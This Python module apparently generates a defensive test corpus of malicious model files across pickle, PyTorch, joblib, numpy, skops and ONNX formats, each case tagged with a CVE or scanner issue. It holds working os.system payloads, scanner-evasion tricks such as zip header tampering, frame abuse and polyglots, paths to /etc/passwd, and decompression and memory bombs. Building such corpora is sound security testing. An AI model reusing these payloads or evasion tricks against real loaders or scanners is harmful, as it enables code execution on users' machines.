"""What holds the pickles of the corpus: files of every format that a loader reads, sound and tampered with."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from typing import TYPE_CHECKING, Any

import joblib
import numpy as np

from corpus_gadgets import COMMAND, INNER, PLAIN, SYSTEM
from corpus_streams import Build, Call, Form, Name, New, call, framed, stream

if TYPE_CHECKING:
    from collections.abc import Iterator

Case = tuple[str, str, str, str, bytes]
"""Trick, advisory, loader, name of the file, content."""
P2 = stream(PLAIN, Form(2, "global"))
P4 = stream(PLAIN)
HARMLESS = pickle.dumps({"weights": [1.0, 2.0]}, 4)


class Evil:
    """An object that runs the command when it is loaded."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (COMMAND,)


def zipped(members: list[tuple[str, bytes]], how: int = zipfile.ZIP_STORED, *, comment: bytes = b"") -> bytes:
    """Return a zip of members, in order; names may repeat."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", how) as file:
        for name, data in members:
            file.writestr(zipfile.ZipInfo(name), data, how)
        file.comment = comment
    return buffer.getvalue()


def torch_zip(data: bytes, extra: list[tuple[str, bytes]] | None = None, **options: Any) -> bytes:
    """Return a file as torch.save writes it, with this pickle in it."""
    members = [("model/data.pkl", data), ("model/byteorder", b"little"), ("model/version", b"3\n")]
    return zipped([*members, *(extra or [])], **options)


def headers(data: bytes) -> Iterator[tuple[int, int]]:
    """Yield the positions of local (0) and central (1) headers of a zip."""
    for kind, magic in enumerate((b"PK\x03\x04", b"PK\x01\x02")):
        at = data.find(magic)
        while at >= 0:
            yield kind, at
            at = data.find(magic, at + 4)


def patched(data: bytes, local: int, central: int, value: bytes, *, kinds: tuple[int, ...] = (0, 1)) -> bytes:
    """Return a zip with a field of its headers overwritten."""
    changed = bytearray(data)
    for kind, at in headers(data):
        if kind in kinds:
            start = at + (central if kind else local)
            changed[start : start + len(value)] = value
    return bytes(changed)


def renamed(data: bytes, old: bytes, new: bytes, kind: int) -> bytes:
    """Return a zip whose local (0) or central (1) header names a member otherwise."""
    for found, at in headers(data):
        start = at + (46 if found else 30)
        if found == kind and data[start : start + len(old)] == old:
            return data[:start] + new + data[start + len(old) :]
    raise ValueError(old)


def zips() -> Iterator[Case]:
    """Yield PyTorch's zips and plain ones."""
    for protocol, data in ((2, P2), (4, P4)):
        good = torch_zip(data)
        yield f"torch zip, protocol {protocol}", "format", "torch", "model.pt", good
        yield (
            f"torch zip, flag bits {protocol}",
            "CVE-2025-1945",
            "torch",
            "model.pt",
            patched(good, 6, 8, b"\x01\x00"),
        )
        yield (
            f"torch zip, flag bit in the directory {protocol}",
            "CVE-2025-1945",
            "torch",
            "model.pt",
            patched(good, 6, 8, b"\x01\x00", kinds=(1,)),
        )
        yield (
            f"torch zip, patch-data flag {protocol}",
            "CVE-2025-1945",
            "torch",
            "model.pt",
            patched(good, 6, 8, b"\x20\x00"),
        )
        yield (
            f"torch zip, local names differ {protocol}",
            "CVE-2025-1944",
            "torch",
            "model.pt",
            renamed(good, b"model/data.pkl", b"model/data.txt", 0),
        )
        yield (
            f"torch zip, central names differ {protocol}",
            "CVE-2025-1944",
            "torch",
            "model.pt",
            renamed(good, b"model/version", b"model/verzion", 1),
        )
        yield (
            f"torch zip, bad CRC {protocol}",
            "CVE-2025-10156",
            "torch",
            "model.pt",
            patched(good, 14, 16, b"\0\0\0\0"),
        )
        yield (
            f"torch zip, bad CRC in the directory {protocol}",
            "CVE-2025-10156",
            "torch",
            "model.pt",
            patched(good, 14, 16, b"\xff\xff\xff\xff", kinds=(1,)),
        )
        yield (
            f"torch zip, wrong version {protocol}",
            "format",
            "torch",
            "model.pt",
            patched(good, 4, 6, b"\xff\x00"),
        )
        yield f"torch zip under another suffix {protocol}", "CVE-2025-10155", "torch", "model.txt", good
        yield (
            f"torch zip, hidden pickle {protocol}",
            "CVE-2025-1889",
            "",
            "model.pt",
            torch_zip(HARMLESS, [("model/config.p", data)]),
        )
        yield (
            f"torch zip, tensor is a pickle {protocol}",
            "pickle in bytes",
            "",
            "model.pt",
            torch_zip(HARMLESS, [("model/data/0", data)]),
        )
        yield (
            f"torch zip, member twice {protocol}",
            "format",
            "torch",
            "model.pt",
            torch_zip(HARMLESS, [("model/data.pkl", data)]),
        )
        yield (
            f"torch zip, member twice, first bad {protocol}",
            "format",
            "torch",
            "model.pt",
            torch_zip(data, [("model/data.pkl", HARMLESS)]),
        )
        yield f"torch zip, bytes before it {protocol}", "format", "torch", "model.pt", b"\0" * 64 + good
        yield (
            f"torchscript constants {protocol}",
            "format",
            "torch",
            "model.pt",
            torch_zip(
                HARMLESS, [("model/constants.pkl", data), ("model/code/__torch__.py", b"def f():\n  pass\n")]
            ),
        )
        yield f"zip of a pickle {protocol}", "format", "zip", "a.zip", zipped([("a.pkl", data)])
        yield (
            f"zip, deflated {protocol}",
            "format",
            "zip",
            "a.zip",
            zipped([("a.pkl", data)], zipfile.ZIP_DEFLATED),
        )
        yield f"zip, bzip2 {protocol}", "format", "zip", "a.zip", zipped([("a.pkl", data)], zipfile.ZIP_BZIP2)
        yield f"zip, lzma {protocol}", "format", "zip", "a.zip", zipped([("a.pkl", data)], zipfile.ZIP_LZMA)
        yield (
            f"zip, member with a harmless name {protocol}",
            "CVE-2025-1889",
            "zip",
            "a.zip",
            zipped([("README.md", data)]),
        )
        yield (
            f"zip in a zip {protocol}",
            "format",
            "zip",
            "a.zip",
            zipped([("b.zip", zipped([("a.pkl", data)]))]),
        )
        yield f"zip, path upwards {protocol}", "format", "zip", "a.zip", zipped([("../../a.pkl", data)])
        yield (
            f"zip with a comment {protocol}",
            "format",
            "zip",
            "a.zip",
            zipped([("a.pkl", data)], comment=b"x" * 200),
        )
        yield (
            f"zip after a pickle {protocol}",
            "polyglot",
            "pickle",
            "a.zip",
            data + zipped([("a.txt", b"x")]),
        )
        yield (
            f"zip whose comment is a pickle {protocol}",
            "polyglot",
            "",
            "a.zip",
            zipped([("a.txt", b"x")], comment=data),
        )
        yield (
            f"zip of gzip {protocol}",
            "format",
            "",
            "a.zip",
            zipped([("a.gz", gzip.compress(data, mtime=0))]),
        )
        yield f"zip cut short {protocol}", "format", "", "a.zip", zipped([("a.pkl", data)])[:-10]
        yield f"zip, entry missing from the directory {protocol}", "format", "", "a.zip", _without_entry(data)


def _without_entry(data: bytes) -> bytes:
    """Return a zip with a local entry that its directory does not list."""
    hidden = zipped([("b.pkl", data)])
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    good = zipped([("a.txt", b"x")])
    end = good.rindex(b"PK\x05\x06")
    directory = bytearray(good[end:])
    start = good.index(b"PK\x01\x02")
    directory[16:20] = struct.pack("<I", start + len(hidden))
    central = bytearray(good[start:end])
    central[42:46] = struct.pack("<I", len(hidden))
    return hidden + good[:start] + bytes(central) + bytes(directory)


def compressed() -> Iterator[Case]:
    """Yield joblib's files and compressed pickles."""
    ways = {
        "zlib": lambda d: zlib.compress(d, 3), "gzip": lambda d: gzip.compress(d, mtime=0), "bz2": bz2.compress,
        "xz": lzma.compress, "lzma": lambda d: lzma.compress(d, lzma.FORMAT_ALONE),
    }  # fmt: skip
    try:
        import lz4.frame

        ways["lz4"] = lz4.frame.compress
    except ImportError:
        pass
    for name, squeeze in ways.items():
        for protocol, data in ((2, P2), (4, P4)):
            yield f"joblib {name}, protocol {protocol}", "format", "joblib", "model.joblib", squeeze(data)
            yield (
                f"joblib {name}, array before {protocol}",
                "format",
                "joblib",
                "model.joblib",
                squeeze(dumped([np.arange(3.0), Evil()], protocol)),
            )
            yield (
                f"joblib {name}, object array {protocol}",
                "format",
                "joblib",
                "model.joblib",
                squeeze(dumped([np.array([Evil(), 1], dtype=object)], protocol)),
            )
        yield f"joblib {name}, twice", "format", "", "model.joblib", squeeze(squeeze(P4))
        yield f"joblib {name}, cut short", "format", "", "model.joblib", squeeze(P4 + b"0" * 400)[:-6]
    for protocol in (2, 3, 4, 5):
        yield (
            f"joblib raw, protocol {protocol}",
            "format",
            "joblib",
            "model.joblib",
            dumped([np.arange(3.0), Evil()], protocol),
        )
        yield (
            f"joblib raw, object array {protocol}",
            "format",
            "joblib",
            "model.joblib",
            dumped({"a": np.array([Evil()], dtype=object), "b": np.arange(4)}, protocol),
        )


def dumped(value: object, protocol: int) -> bytes:
    """Return what joblib writes."""
    buffer = io.BytesIO()
    joblib.dump(value, buffer, protocol=protocol)
    return buffer.getvalue()


def arrays() -> Iterator[Case]:
    """Yield .npy and .npz files, and joblib's inline arrays by hand."""
    bad = np.array([Evil(), 1], dtype=object)
    plain = io.BytesIO()
    np.save(plain, bad, allow_pickle=True)
    yield "npy object array", "format", "numpy", "a.npy", plain.getvalue()
    for version in ((1, 0), (2, 0), (3, 0)):
        buffer = io.BytesIO()
        np.lib.format.write_array(buffer, bad, version=version, allow_pickle=True)
        yield (
            f"npy object array, version {version[0]}",
            "format",
            "numpy",
            f"v{version[0]}.npy",
            buffer.getvalue(),
        )
    for name, save in (("npz", np.savez), ("npz compressed", np.savez_compressed)):
        buffer = io.BytesIO()
        save(buffer, good=np.arange(3), bad=bad)
        yield name, "format", "numpy", "a.npz", buffer.getvalue()
        yield (
            f"{name}, bad CRC",
            "CVE-2025-10156",
            "numpy",
            "a.npz",
            patched(buffer.getvalue(), 14, 16, b"\1\1\1\1"),
        )
    text = plain.getvalue()
    yield "npy under another suffix", "CVE-2025-10155", "numpy", "a.bin", text
    yield "npy with a pickle behind", "data after the end", "", "a.npy", _npy(np.arange(3)) + P4
    yield "npy with an unknown version", "format", "", "a.npy", text[:6] + b"\x09\x00" + text[8:]
    yield (
        "npy whose header is code",
        "format",
        "",
        "a.npy",
        _header(b"{'descr': __import__('os').system('touch ran')}"),
    )
    yield (
        "npy with a huge shape",
        "memory bomb",
        "",
        "a.npy",
        _header(b"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999,), }"),
    )
    yield (
        "npy with a negative shape",
        "format",
        "",
        "a.npy",
        _header(b"{'descr': '<f8', 'fortran_order': False, 'shape': (-1,), }"),
    )
    for dtype in (
        Call(Name("numpy.dtypes", "ObjectDType")),
        call("numpy", "dtype", "O8", 0, 1),
        call("numpy", "dtype", "O"),
    ):
        for protocol in (2, 4):
            yield (
                f"joblib inline array of {dtype.what.name}{dtype.args}, protocol {protocol}",
                "joblib inline array",
                "joblib",
                "a.joblib",
                _inline(dtype, protocol),
            )
    yield (
        "npz with a pickle among arrays",
        "CVE-2025-1889",
        "zip",
        "a.npz",
        zipped([("a.npy", _npy(np.arange(3))), ("b.pkl", P4)]),
    )


def _npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def _header(text: bytes) -> bytes:
    line = text.ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(line)) + line + b"\0" * 24


def _inline(dtype: object, protocol: int) -> bytes:
    """Return a joblib file whose array of objects is declared in an unusual way."""
    state = {
        "subclass": Name("numpy", "ndarray"),
        "shape": (1,),
        "order": "C",
        "dtype": dtype,
        "allow_mmap": False,
    }
    wrapper = Build(New(Name("joblib.numpy_pickle", "NumpyArrayWrapper")), (state,))
    return stream(wrapper, Form(protocol, "global"), end=b"") + P2 + b"."


def tars() -> Iterator[Case]:
    """Yield tar files, torch's oldest format with them."""
    for mode in ("", "gz", "bz2", "xz"):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode=f"w:{mode}" if mode else "w") as file:
            for name in ("sys_info", "pickle", "storages", "tensors"):
                data = P2 if name == "pickle" else pickle.dumps(0, 2)
                info = tarfile.TarInfo(name)
                info.size = len(data)
                file.addfile(info, io.BytesIO(data))
        yield f"torch tar {mode}", "format", "tar", "model.tar", buffer.getvalue()
    for name, kind in (("link", tarfile.SYMTYPE), ("hard", tarfile.LNKTYPE), ("device", tarfile.CHRTYPE)):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as file:
            info = tarfile.TarInfo("a")
            info.type, info.linkname = kind, "/etc/passwd"
            file.addfile(info)
        yield f"tar with a {name}", "format", "", "model.tar", buffer.getvalue()


def _legacy(data: bytes) -> bytes:
    """Return torch's format before its zips: magic, protocol, system, object, keys of storages."""
    head = [pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return b"".join(head) + data + pickle.dumps([], 2)


def others() -> Iterator[Case]:
    """Yield older PyTorch files, skops, ONNX and files that nothing here can read."""
    for protocol, data in ((2, P2), (4, P4)):
        yield f"torch legacy, protocol {protocol}", "format", "torch", "model.pth", _legacy(data)
        yield f"pickle with an odd suffix {protocol}", "CVE-2025-10155", "pickle", "model.dat", data
        yield f"pickle named as an array {protocol}", "CVE-2025-10155", "pickle", "model.npy", data
        yield f"pickle named as PyTorch {protocol}", "CVE-2025-10155", "pickle", "model.pt", data
        yield (
            f"pickle in bytes {protocol}",
            "pickle in bytes",
            "inner",
            "model.pkl",
            pickle.dumps({"w": data}, protocol),
        )
        yield (
            f"pickle in compressed bytes {protocol}",
            "pickle in bytes",
            "",
            "model.pkl",
            pickle.dumps({"w": zlib.compress(data)}, protocol),
        )
        yield (
            f"pickle in a bytearray {protocol}",
            "pickle in bytes",
            "",
            "model.pkl",
            pickle.dumps([bytearray(data)], 5),
        )
        yield (
            f"loads of bytes {protocol}",
            "pickle in bytes",
            "pickle",
            "model.pkl",
            stream(call("pickle", "loads", data)),
        )
    for name, node in _skops().items():
        schema = {"protocol": 2, "_skops_version": "0.13", **node}
        yield (
            f"skops {name}",
            "skops",
            "",
            "model.skops",
            zipped([("schema.json", json.dumps(schema).encode())]),
        )
    yield (
        "skops with a pickle in it",
        "skops",
        "zip",
        "model.skops",
        zipped([("schema.json", b"{}"), ("1.npy", P4)]),
    )
    for path in ("../../etc/passwd", "/etc/passwd", "..\\x", "C:\\x", "file:///etc/passwd"):
        yield f"ONNX external data {path}", "ONNX external data", "", "model.onnx", onnx(location=path)
    for domain in ("evil.ops", "ai.onnx.contrib"):
        yield f"ONNX operator of {domain}", "ONNX operator", "", "model.onnx", onnx(domain=domain)
    lambda_layer = json.dumps(
        {"class_name": "Lambda", "config": {"function": ["4wAAAA==", None, None]}}
    ).encode()
    yield (
        "keras Lambda",
        "unreadable format",
        "",
        "model.keras",
        zipped([("config.json", lambda_layer), ("model.weights.h5", b"\x89HDF\r\n\x1a\n")]),
    )
    foreign = {
        "7z": b"7z\xbc\xaf\x27\x1c\x00\x04", "rar": b"Rar!\x1a\x07\x01\x00", "hdf5": b"\x89HDF\r\n\x1a\n",
        "gguf": b"GGUF\x03\x00\x00\x00", "zstd": b"\x28\xb5\x2f\xfd", "elf": b"\x7fELF\x02\x01\x01", "pe": b"MZ\x90\x00",
        "script": b"#!/bin/sh\ntouch ran\n", "class": b"\xca\xfe\xba\xbe", "cab": b"MSCF\0\0\0\0", "parquet": b"PAR1",
    }  # fmt: skip
    for name, magic in foreign.items():
        yield f"{name} with a pickle behind", "unreadable format", "", f"model.{name}", magic + P4


def _skops() -> dict[str, dict[str, Any]]:
    """Return schemas whose nodes name what no model needs."""
    text = {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": '"touch ran"',
        "is_json": True,
    }
    args = {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": [text],
        "__id__": 2,
    }
    return {
        "function": {"__class__": "function", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "__id__": 1},
        "type": {"__class__": "type", "__module__": "builtins", "__loader__": "TypeNode", "content": {"__class__": "Popen", "__module__": "subprocess"}, "__id__": 1},
        "object": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "content": args, "__id__": 1},
        "reduce": {"__class__": "system", "__module__": "os", "__loader__": "ReduceNode", "content": args, "__id__": 1},
        "operator": {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": args, "__id__": 1},
        "method": {"__class__": "method", "__module__": "os", "__loader__": "MethodNode", "content": {"func": "system", "obj": text}, "__id__": 1},
        "partial": {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {"func": {"__class__": "function", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "__id__": 3}}, "__id__": 1},
        "unknown node": {"__class__": "x", "__module__": "x", "__loader__": "EvilNode", "content": None, "__id__": 1},
    }  # fmt: skip


def _field(number: int, value: bytes | int) -> bytes:
    """Write one field of a protocol buffer (lengths and numbers below 128)."""
    if isinstance(value, int):
        return bytes([number << 3, value])
    return (
        bytes([number << 3 | 2])
        + (bytes([len(value)]) if len(value) < 128 else bytes([len(value) & 127 | 128, len(value) >> 7]))
        + value
    )


def onnx(*, location: str = "", domain: str = "") -> bytes:
    """Write a small ONNX model with an initialiser outside the file, or an operator of a domain."""
    node = (
        _field(1, b"x")
        + _field(2, b"y")
        + _field(4, b"Run" if domain else b"Identity")
        + _field(7, domain.encode())
    )
    graph = _field(1, node) + _field(2, b"g")
    if location:
        entry = _field(1, b"location") + _field(2, location.encode())
        graph += _field(5, _field(1, 1) + _field(2, 1) + _field(8, b"x") + _field(13, entry) + _field(14, 1))
    opset = _field(1, domain.encode()) + _field(2, 1)
    return _field(1, 8) + _field(7, graph) + _field(8, opset)


def streams() -> Iterator[Case]:
    """Yield plain pickles in every form of their opcodes, and with data around them."""
    for protocol in range(6):
        for names in ("global", "stack", "memo", "replayed"):
            for calls in ("reduce", "obj", "inst"):
                if (names != "global" and calls == "inst") or (
                    names != "global" and protocol < 4 and protocol not in (0, 2)
                ):
                    continue
                form = Form(protocol, names, calls)
                yield (
                    f"{names} {calls} protocol {protocol}",
                    "opcode form",
                    "pickle",
                    "a.pkl",
                    stream(PLAIN, form),
                )
    for protocol, (names, data) in enumerate([("global", P2), ("stack", P4)]):
        bare = data[2:-1]
        head = b"\x80\x04"
        tricks = {
            "OBJ + POP": (data[:-1] + b"0N.", "fickling: OBJ+POP", "pickle"),
            "dropped with its mark": (head + b"(" + bare + b"1N.", "fickling: OBJ+POP", "pickle"),
            "appended BUILD": (data[:-1] + b"}b.", "fickling: appended BUILD", "pickle"),
            "appended BUILD of attributes": (data[:-1] + b"0" + head[2:] + b"N}N}\x86b.", "fickling: appended BUILD", "pickle"),
            "as a key": (head + b"}" + bare + b"Ns.", "opcode form", "pickle"),
            "in a set": (head + b"\x8f(" + bare + b"\x90.", "opcode form", "pickle"),
            "in a frozenset": (head + b"(" + bare + b"\x91.", "opcode form", "pickle"),
            "kept in the memo only": (data[:-1] + b"\x940N." if protocol else data[:-1] + b"q\x050N.", "opcode form", "pickle"),
            "in a frame": (head + framed(bare + b"."), "fickling: FRAME boundaries", "pickle"),
            "frame ends inside it": (head + framed(bare[:9]) + bare[9:] + b".", "fickling: FRAME boundaries", ""),
            "frame too long": (head + framed(bare + b".", longer=7), "fickling: FRAME boundaries", "pickle"),
            "frame in a frame": (head + framed(b"\x95" + struct.pack("<Q", len(bare) + 1) + bare + b"."), "fickling: FRAME boundaries", "pickle"),
            "empty frames": (head + framed(b"") * 3 + bare + b".", "fickling: FRAME boundaries", "pickle"),
            "after a harmless pickle": (HARMLESS + data, "several pickles", "pickles"),
            "after many harmless pickles": (HARMLESS * 30 + data, "several pickles", "pickles"),
            "after STOP and zeros": (HARMLESS + b"\0" * 8 + data, "data after STOP", ""),
            "after STOP and text": (HARMLESS + b"#!" + data, "data after STOP", ""),
            "runs, then a bad opcode": (data[:-1] + b"\xff.", "GHSA-9gvj-pp9x-gcfr (runs, then breaks)", "pickle"),
            "runs, then no STOP": (data[:-1], "GHSA-9gvj-pp9x-gcfr (runs, then breaks)", "pickle"),
            "runs, then a missing memo": (data[:-1] + b"h\xe0.", "modelscan #338 (invalid memo reference)", "pickle"),
            "runs, then an empty stack": (data[:-1] + b"000.", "modelscan #338 (stack underflow)", "pickle"),
            "runs, then a bad STACK_GLOBAL": (data[:-1] + b"K\x01\x93.", "modelscan #338 (STACK_GLOBAL on numbers)", "pickle"),
            "runs, then an extension code": (data[:-1] + b"\x82\x07.", "EXT", "pickle"),
            "runs, then a persistent id": (data[:-1] + b"Q.", "persistent id", "pickle"),
            "runs, then wants a buffer": (data[:-1] + b"\x97.", "out-of-band buffer", "pickle"),
            "PROTO in the middle": (head + b"N0" + b"\x80\x05" + bare + b".", "opcode form", "pickle"),
            "unknown protocol": (b"\x80\xff" + bare + b".", "opcode form", ""),
            "behind 100 kB of text": (head + b"X" + struct.pack("<I", 100_000) + b"a" * 100_000 + b"0" + bare + b".", "opcode form", "pickle"),
            "behind 50,000 numbers": (head + b"K\x010" * 50_000 + bare + b".", "opcode form", "pickle"),
        }  # fmt: skip
        for trick, (content, advisory, loader) in tricks.items():
            yield f"{trick} ({names})", advisory, loader, "a.pkl", content
    yield (
        "escaped text of protocol 0",
        "opcode form",
        "pickle",
        "a.pkl",
        b"\x80\x04Vo\\u0073\nVsyste\\u006d\n\x93(S'touch ran'\ntR.",
    )
    yield (
        "quoted text of protocol 0",
        "opcode form",
        "pickle",
        "a.pkl",
        b"\x80\x04S'o\\x73'\nS'\\x73ystem'\n\x93(S'touch ran'\ntR.",
    )
    computed = b"\x80\x04cbuiltins\nstr\n(\x8c\x02ostR\x8c\x06system\x93(\x8c\x09touch rantR."
    yield "name computed by a call", "opcode form", "pickle", "a.pkl", computed
    for code in (b"\x82\x01", b"\x83\x01\x00", b"\x84\x01\x00\x00\x00"):
        yield f"extension code {code[0]:x}", "EXT", "", "a.pkl", b"\x80\x02" + code + b"."


def bombs() -> Iterator[Case]:
    """Yield files that are small and want to be large."""
    nested = b"\x80\x04)" + b"\x85" * 200_000 + b"."
    tricks = {
        "memo index": b"\x80\x04Nr\xff\xff\xff\x0f.", "memo index in text": b"Np268435455\n.",
        "declared bytes": b"\x80\x04\x8e\xff\xff\xff\xff\xff\x00\x00\x00.", "declared text": b"\x80\x04\x8d\xff\xff\xff\xff\x0f\x00\x00\x00.",
        "declared bytearray": b"\x80\x05\x96\xff\xff\xff\xff\x0f\x00\x00\x00.", "declared integer": b"\x80\x02\x8b\xff\xff\xff\x7f.",
        "declared frame": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7fN.", "negative length": b"\x80\x02T\xff\xff\xff\xffN.",
        "nested tuples as a key": nested[:-1] + b"}" + b"N" + b"s.", "doubling tuples as a key": b"\x80\x04}" + b")" + b"2\x86" * 60 + b"Ns.",
        "bytearray of a number": b"\x80\x04cbuiltins\nbytearray\n(I99999999999\ntR.", "bytes of a number": b"\x80\x04cbuiltins\nbytes\n(I99999999999\ntR.",
        "3 GB in bz2": _zeros(),
        "gzip of zeros": gzip.compress(bytes(50_000_000), mtime=0),
    }  # fmt: skip
    for trick, content in tricks.items():
        yield f"bomb: {trick}", "memory bomb", "", "a.pkl", content


def _zeros() -> bytes:
    """Return 3 GB of zeros, compressed by bz2, which squeezes them to a few kB."""
    one = bz2.compress(bytes(100_000_000))
    return one * 30


def cases() -> Iterator[Case]:
    """Yield all of it."""
    for part in (streams, zips, compressed, arrays, tars, others, bombs):
        yield from part()


__all__ = ["INNER", "SYSTEM", "Case", "cases"]
